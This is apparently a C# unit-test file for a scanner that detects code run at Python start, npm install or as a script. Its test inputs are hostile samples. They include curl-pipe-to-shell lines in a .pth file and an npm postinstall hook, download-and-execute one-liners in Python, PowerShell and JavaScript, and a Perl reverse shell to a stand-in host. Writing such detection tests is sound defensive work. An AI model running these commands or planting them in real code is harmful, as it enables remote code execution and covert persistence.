using System.Text;
using Wellguard.Artifacts;
using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs;

public sealed class ScriptFileTests
{
    private static List<CodeFile> Read(CodeReader reader, string path, string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var found = new List<CodeFile>();
        var entry = new Entry(path, EntryType.File, 0b110_100_100, bytes.Length);
        reader.Read(new FileContent { Entry = entry, Kind = FileKinds.Of(bytes), Bytes = bytes }, found);
        return found;
    }

    [Fact]
    public void An_import_line_of_a_path_file_runs_at_every_start_of_Python()
    {
        var program = Assert.Single(Read(new PythonFile(), "usr/local/lib/python3.11/site-packages/a.pth", "./x\nimport os; os.system('curl http://192.0.2.1/a | sh')\n"));
        Assert.Equal((TriggerKind.InterpreterStart, 2), (program.Trigger, program.Line));
        Assert.Equal(2, Assert.Single(program.Effects).Line);
    }

    [Fact]
    public void The_path_file_of_setuptools_does_nothing() =>
        Assert.All(Read(new PythonFile(), "usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"), code => Assert.Empty(code.Effects));

    [Theory]
    [InlineData("a.py", "import subprocess,requests\nsubprocess.Popen(['python3','-c',requests.get('http://192.0.2.1/a').text])\n", "#x aa\n")]
    [InlineData("a.ps1", "iex (iwr http://192.0.2.1/a.ps1)\n", "#x aa\n")]
    [InlineData("a.js", "fetch('http://192.0.2.1/a').then(r=>r.text()).then(t=>new Function(t)())\n", "//x a\n")]
    [InlineData("a.pl", "use IO::Socket;my $s=IO::Socket::INET->new('192.0.2.1:4444');my $c=<$s>;system($c);\n", "#x aa\n")]
    public void Comments_above_half_a_megabyte_hide_nothing(string path, string code, string comment)
    {
        CodeReader reader = path.EndsWith(".py", StringComparison.Ordinal) ? new PythonFile() : path.EndsWith(".js", StringComparison.Ordinal) ? new JavaScriptFile() : new InterpretedFile();
        Assert.NotEmpty(Assert.Single(Read(reader, path, code + string.Concat(Enumerable.Repeat(comment, 200_000)))).Effects);
    }

    [Fact]
    public void A_site_customisation_runs_at_every_start_of_Python() =>
        Assert.Equal(TriggerKind.InterpreterStart, Assert.Single(Read(new PythonFile(), "usr/lib/python3/sitecustomize.py", "import subprocess\nsubprocess.run('id', shell=True)\n")).Trigger);

    [Fact]
    public void A_lifecycle_script_of_npm_has_its_line_and_other_scripts_are_not_programs()
    {
        var program = Assert.Single(Read(new NpmScripts(), "app/node_modules/a/package.json", "{\n  \"name\": \"a\",\n  \"scripts\": {\n    \"test\": \"curl http://192.0.2.1/t | sh\",\n    \"postinstall\": \"curl http://192.0.2.1/a | sh\"\n  }\n}\n"));
        Assert.Equal((TriggerKind.PackageInstall, 5, "npm postinstall"), (program.Trigger, program.Line, program.TriggerText));
    }

    [Theory]
    [InlineData("{\"scripts\": ")]
    [InlineData("{\"scripts\": [1]}")]
    [InlineData("\"scripts\"")]
    [InlineData("{\"scripts\": {\"install\": 1, \"\\ud800\": \"id\"}}")]
    public void A_damaged_manifest_is_no_program(string json) => Assert.Empty(Read(new NpmScripts(), "package.json", json));

    [Theory]
    [InlineData("srv/run", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", 3)]
    [InlineData("srv/run", "#!/usr/bin/node\nrequire('child_process').exec('id')\n", 2)]
    [InlineData("srv/x.php", "<?php system('id');", 1)]
    public void The_first_line_or_the_extension_says_the_language(string path, string text, int line) =>
        Assert.Equal(line, Assert.Single(Assert.Single(Read(new InterpretedFile(), path, text)).Effects).Line);

    [Fact]
    public void A_script_without_effects_is_no_program() => Assert.Empty(Read(new JavaScriptFile(), "srv/a.js", "module.exports = 1;\n"));
}
